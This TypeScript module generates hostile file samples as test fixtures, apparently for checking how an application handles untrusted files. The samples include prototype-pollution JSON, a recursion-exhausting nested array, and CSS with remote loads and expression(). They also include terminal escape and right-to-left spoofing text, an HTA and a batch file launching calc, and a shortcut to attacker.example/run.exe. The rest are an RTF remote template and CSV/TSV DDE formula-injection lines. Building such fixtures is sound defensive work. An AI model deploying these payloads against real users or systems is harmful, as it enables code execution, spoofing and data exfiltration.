import { utf8 } from '../files/source-file.ts'
import { elsewhere, payload } from './payload.ts'

export const script = (mark: string): Uint8Array => utf8(`${payload(mark)}\n`)

/** Would change every object of a page that copies its members carelessly. */
export const pollutingJson = (): Uint8Array =>
  utf8(
    '{"__proto__":{"deskPayload":"proto"},"constructor":{"prototype":{"deskPayload":"constructor"}},"name":"Polluting"}\n',
  )

/** Deep enough to exhaust the stack of whoever reads it by recursion. */
export const deepJson = (): Uint8Array => utf8(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)

export const styleSheet = (): Uint8Array =>
  utf8(
    `@import url(${elsewhere('a.css')});\nbody{background:url(${elsewhere('b.png')});visibility:hidden}\n` +
      `body{behavior:url(${elsewhere('c.htc')});width:expression(${payload('css')})}\n`,
  )

/** Colours and titles for a terminal, letters that turn the line round, a bell. */
export const terminalText = (): Uint8Array =>
  utf8(
    `Paid in full\u202e 00.001 RUE\u202c\n\u001b]0;owned\u0007\u001b[31mred\u001b[0m\u001b[2J\nend of the log\n`,
  )

export const webApplication = (): Uint8Array =>
  utf8(
    `<html><head><hta:application id="a"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>` +
      `<script>${payload('hta')}</script></head></html>\n`,
  )

export const internetShortcut = (): Uint8Array =>
  utf8(
    `[InternetShortcut]\r\nURL=file://attacker.example/share/run.exe\r\nIconFile=\\\\attacker.example\\icon.ico\r\n`,
  )

/** The header of a Windows shortcut. */
export const shellLink = (): Uint8Array =>
  Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(200, 1)])

export const flashMovie = (): Uint8Array =>
  Buffer.concat([Buffer.from('FWS\x0a', 'latin1'), Buffer.from('64000000', 'hex'), Buffer.alloc(92, 3)])

/** The smallest module there is. */
export const wasmModule = (): Uint8Array => Buffer.from('0061736d01000000', 'hex')

export const batchFile = (): Uint8Array => utf8('@echo off\r\nstart calc.exe\r\n')

/** Word follows the link of the template without asking. */
export const richText = (): Uint8Array =>
  utf8(
    `{\\rtf1\\ansi{\\*\\template ${elsewhere('a.dotm')}}{\\object\\objautlink{\\*\\objdata 01}}Dear customer}\n`,
  )

/** Programs that a spreadsheet starts, in every spelling it takes for a formula. */
export const ddeCsv = (): Uint8Array =>
  utf8(
    [
      'Name,Value',
      `=cmd|' /C calc'!A0,"=DDE(""cmd"";""/C calc"";""a"")"`,
      `@SUM(1+1)*cmd|' /C calc'!A0,+1+cmd|' /C calc'!A0`,
      `-2+3+cmd|' /C calc'!A0,"\t=1+1"`,
      `"=WEBSERVICE(""${elsewhere('w')}"")","=IMAGE(""${elsewhere('i.png')}"")"`,
      `"=HYPERLINK(""javascript:${payload('csv')}"",""Click"")",<script>${payload('csv')}</script>`,
      `"=IMPORTXML(""${elsewhere('x')}"",""//a"")","\r=1+1"`,
      '',
    ].join('\n'),
  )

/** The separator is a formula's own sign, so that a spreadsheet reads other cells than we do. */
export const separatorTsv = (): Uint8Array =>
  utf8(`sep==\r\nName\tValue\r\n"a"=1+1\t${'"'.repeat(3)}=2+2\r\n`)
